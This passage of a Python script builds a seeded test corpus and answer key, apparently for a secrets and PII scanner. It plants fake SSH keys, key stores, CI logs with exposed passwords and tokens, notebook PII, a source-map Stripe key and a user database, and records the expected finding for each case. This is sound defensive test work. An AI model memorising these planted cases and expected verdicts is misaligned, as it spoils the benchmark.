    r = put(HOME + "/.ssh/id_ed25519", k1.encode())
    key("ssh_key_plain", r, [], exact={"private_key": [key_fp(b1)]})
    r = put(HOME + "/.ssh/id_ed25519.pub", pub1.encode())
    key("ssh_pub_clean", r, [], no_findings=True)
    k2, b2, _ = openssh_key("jdoe@laptop", encrypted=True)
    r = put(HOME + "/.ssh/id_ed25519_laptop", k2.encode())
    key("ssh_key_encrypted", r, [], planted={"private_key": [key_fp(b2)]}, verdict="sensitive")
    r = put(HOME + "/.ssh/known_hosts", ("github.com,192.30.252.128 %s %s\n" % tuple(pub1.split(" ")[:2])).encode())
    key("known_hosts_clean", r, [], no_findings=True)
    # key stores
    g = gs.Gen(None, 1417)
    r = put(OPS + "/certs/payments-api.p12", gs.pkcs12(g, True))
    key("pkcs12_key", r, [], entities_all=["credential_store"], verdict="sensitive")
    r = put(OPS + "/certs/payments-api.jks", gs.jks(g, 0xFEEDFEED, [gs.jks_key_entry(g, "payments", "1.3.6.1.4.1.42.2.17.1.1")]))
    key("jks_key", r, [], entities_all=["credential_store"], verdict="sensitive")
    r = put(OPS + "/certs/truststore.jks", gs.jks(g, 0xFEEDFEED, [gs.jks_cert_entry(g, "acme-root-ca")]))
    key("jks_truststore_clean", r, [], no_findings=True)


def jwt_token(payload):
    def b64u(b):
        return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
    return ".".join((b64u(json.dumps({"alg": "RS256", "kid": ""}).encode()), b64u(json.dumps(payload).encode()),
                     b64u(bytes(R.randrange(256) for _ in range(256)))))


# ---------------------------------------------------------------- logs, notebooks, app data
def log_cases():
    c_pw = pw()
    gha = ["2014-11-24T09:00:01.0000000Z ##[group]Run aws-actions/configure-aws-credentials@v1",
           "2014-11-24T09:00:01.0000000Z with:",
           "2014-11-24T09:00:01.0000000Z   aws-access-key-id: ***",
           "2014-11-24T09:00:01.0000000Z   aws-secret-access-key: ***",
           "2014-11-24T09:00:01.0000000Z ##[endgroup]",
           "2014-11-24T09:00:02.0000000Z env:",
           "2014-11-24T09:00:02.0000000Z   DB_PASSWORD: ***",
           "2014-11-24T09:00:02.0000000Z   NPM_TOKEN: ***",
           "2014-11-24T09:00:03.0000000Z + curl -fsS -u deploy:%s https://artifacts.acme-soft.test/upload" % c_pw,
           "2014-11-24T09:00:04.0000000Z Uploaded payments-web-1.4.2.tgz"]
    r = put(CI + "/github-actions/deploy_1417.log", ("\n".join(gha) + "\n").encode())
    key("gha_log_unmasked_password", r, [], exact={"password": [c_pw]}, entities_only=["password"])
    masked = [ln for ln in gha if "curl" not in ln]
    r = put(CI + "/github-actions/deploy_1418.log", ("\n".join(masked) + "\n").encode())
    key("gha_log_masked_clean", r, [], no_findings=True)
    s_tok = slack()
    jl = ["Started by user Jane Doe", "[Pipeline] withCredentials",
          "Masking supported pattern matches of $SLACK_TOKEN or $DEPLOY_PASSWORD",
          "[Pipeline] sh", "+ ./deploy.sh --password ****", "+ export SLACK_TOKEN=****",
          "+ echo debug: SLACK_TOKEN=%s" % s_tok, "Finished: SUCCESS"]
    r = put(CI + "/jenkins_home/jobs/payments-deploy/builds/212/log", ("\n".join(jl) + "\n").encode())
    key("jenkins_log_token", r, [], exact={"token": [s_tok]}, entities_only=["token"])
    jm = [ln for ln in jl if "debug" not in ln]
    r = put(CI + "/jenkins_home/jobs/payments-deploy/builds/213/log", ("\n".join(jm) + "\n").encode())
    key("jenkins_log_masked_clean", r, [], no_findings=True)
    # GitLab CI job trace with ANSI colour codes around a printed token
    gl = glpat()
    trace = ("\x1b[0KRunning with gitlab-runner 8.13.0\x1b[0;m\n\x1b[32;1m$ git clone https://oauth2:%s@gitlab.acme-soft.test/"
             "payments/api.git\x1b[0;m\nCloning into 'api'...\n\x1b[32;1mJob succeeded\x1b[0;m\n" % gl)
    r = put(CI + "/gitlab/builds/2014_11/payments/api/8812.log", trace.encode())
    key("gitlab_trace_token", r, [], planted={"token": [gl]})

    # a Jupyter notebook: PII in an output cell, a PNG output
    ppl = [person() for _ in range(3)]
    rows = "\n".join("%d  %-10s %s  %s" % (i, p["name"], p["ssn"], p["email"]) for i, p in enumerate(ppl))
    png = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
           + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)))
           + struct.pack(">I", 10) + b"IDAT" + zlib.compress(b"\0\0")
           + struct.pack(">I", zlib.crc32(b"IDAT" + zlib.compress(b"\0\0")))
           + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))
    nb = {"nbformat": 4, "nbformat_minor": 0, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
          "cells": [{"cell_type": "code", "execution_count": 1, "metadata": {},
                     "source": ["import pandas as pd\n", "df = pd.read_sql('select name, ssn, email from customers', con)\n",
                                "df.head(3)"],
                     "outputs": [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                                  "data": {"text/plain": ["   name       ssn          email\n"]
                                           + [ln + "\n" for ln in rows.split("\n")]}}]},
                    {"cell_type": "code", "execution_count": 2, "metadata": {}, "source": ["df.churn.plot()"],
                     "outputs": [{"output_type": "display_data", "metadata": {},
                                  "data": {"image/png": base64.b64encode(png).decode() + "\n", "text/plain": ["<Figure>"]}}]}]}
    r = put(GIT + "/data-science/notebooks/churn_analysis.ipynb", json.dumps(nb, indent=1).encode())
    key("notebook_output_pii", r, [], planted=pl(*ppl), entities_only=["ssn", "email"])
    # a source map beside its bundle
    st = stripe()
    src = "import Stripe from 'stripe';\nconst stripe = new Stripe('%s');\nexport default stripe;\n" % st
    sm = json.dumps({"version": 3, "file": "main.3f2a1c.js", "sources": ["webpack:///./src/billing.js"],
                     "sourcesContent": [src], "mappings": "AAAA;AACA"}).encode()
    r = put(ART + "/web/static/js/main.3f2a1c.js.map", sm)
    key("sourcemap_stripe", r, [], exact={"token": [st]})
    r = put(ART + "/web/static/js/main.3f2a1c.js",
            b"!function(e){var t={};e.exports=t}({});\n//# sourceMappingURL=main.3f2a1c.js.map\n")
    key("bundle_clean", r, [], no_findings=True)
    # the app's SQLite database: users with bcrypt hashes, API tokens
    us = [person() for _ in range(3)]
    toks = [stripe("rk_live_") for _ in us]
    db = hc.sqlite_db(D.tmp("app.db"), [
        ("CREATE TABLE users (id INTEGER PRIMARY KEY, email TEXT, password_hash TEXT, phone TEXT)",
         [(i + 1, p["email"], "$2a$10$" + rs(53, ALNUM + "./")[:53], p["phone"]) for i, p in enumerate(us)]),
        ("CREATE TABLE api_keys (user_id INTEGER, token TEXT, created TEXT)",
         [(i + 1, t, "2014-11-24") for i, t in enumerate(toks)])])
    r = put(GIT + "/payments-api-deploy/db/app.sqlite3", db)
    key("sqlite_users", r, None, planted_under={"email": [p["email"] for p in us], "token": toks})
    key("sqlite_hashes", r, None, verdict="sensitive")


def generate(out):
    """Build OUT/dump and OUT/key.json; return the key."""
    global R
    R = random.Random(1417)
    return D.generate(out, (git_cases, docker_cases, package_cases, config_cases, log_cases))


CORPUS = {ART + "/desktop/app.asar": "asar/h14_app.asar",
          ART + "/desktop/handover.asar": "asar/h14_surrogate_name.asar",
          GIT + "/backups/deploy-scripts-2014-11-24.bundle": "git/h14_bundle_v2",
          GIT + "/backups/deploy-scripts-v3.bundle": "git/h14_bundle_v3",
          GIT + "/recovered/pack-deep-chain.pack": "git/h14_deep_chain.pack",
          OPS + "/ansible/group_vars/prod/main.yml": "sealed/h14_inline_vault.yml",
          OPS + "/k8s/dump/sh.helm.release.v1.billing.v3.yaml": "text/h14_helm_release_secret.yaml"}


if __name__ == "__main__":
    hc.main(generate, lambda outdir: hc.corpus_copy(generate, CORPUS, outdir))
